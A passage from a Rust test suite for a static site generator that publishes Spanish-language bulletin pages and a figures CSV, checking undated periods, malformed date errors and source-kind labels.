        "    period: unknown\n",
    );
    let (_out, read) = built(&f);
    let page = read(&format!("boletines/{SLUG}/index.html"));
    assert!(page.contains("fechas no indicadas"), "{page}");
    let list = read("boletines/index.html");
    let apart = list.find("Sin ninguna fecha").expect("an undated section");
    assert!(
        list[apart..].contains(&format!("boletines/{SLUG}/")),
        "{list}"
    );
    assert_eq!(
        csv_row(&read("datos/cifras.csv"), "surgeries")["kind"],
        "event"
    );
    // an event with no period at all is still an error: `unknown` must be said
    let f = Fixture::bulletin(
        "    period:\n      start: 2021-09-10\n      end: 2021-09-12\n",
        "",
    );
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (12, 11),
        "figures of kind `event` need a period",
    );
    assert_hint(&d, "`period: unknown`");
}

#[test]
fn bad_partial_dates_and_periods_are_located_errors() {
    let f = Fixture::bulletin("      start: 2021-09-10", "      start: 2021-13");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (14, 14),
        "`2021-13` has month 13",
    );
    let f = Fixture::bulletin("date: 2021-09-13", "date: 21");
    let d = f.single_error();
    assert_diag(&d, Severity::Error, BULLETIN, (3, 7), "`21` is not a date");
    assert_hint(&d, "YYYY-MM or YYYY only when the source gives no day");
    let f = Fixture::bulletin(
        "    period:\n      start: 2021-09-10\n      end: 2021-09-12\n",
        "    period: unknwn\n",
    );
    let d = f.single_error();
    assert_eq!(
        (d.path.as_path(), d.pos.line),
        (Path::new(BULLETIN), 13),
        "{d}"
    );
    assert!(d.message.contains("`unknown`, not \"unknwn\""), "{d}");
}

#[test]
fn the_kind_of_source_is_labelled() {
    let f = Fixture::bulletin("  seed: null\n", "  kind: news\n  seed: null\n");
    let (_out, read) = built(&f);
    let page = read(&format!("boletines/{SLUG}/index.html"));
    assert!(
        page.contains("<span class=\"flag\">Nota periodística</span>"),
        "{page}"
    );
    assert!(
        page.contains("nota periodística sobre el boletín 1/2021"),
        "{page}"
    );
    assert!(read("boletines/index.html")
        .contains("<span class=\"flag\">Nota periodística</span> · Boletín 1/2021"));
    assert_eq!(
        csv_row(&read("datos/cifras.csv"), "surgeries")["source_kind"],
        "news"
    );
    // the default is the institution's own bulletin
    let (_out, read) = built(&Fixture::new());
    assert!(read(&format!("boletines/{SLUG}/index.html")).contains("Boletín de la institución"));
    assert_eq!(
        csv_row(&read("datos/cifras.csv"), "surgeries")["source_kind"],
        "bulletin"
    );
    let f = Fixture::bulletin("  seed: null\n", "  kind: blog\n  seed: null\n");
    let d = f.single_error();
    assert_diag(
        &d,
        Severity::Error,
        BULLETIN,
        (5, 9),
        "`blog` is not one of the values accepted here: bulletin, republication, translation, news",
    );
}
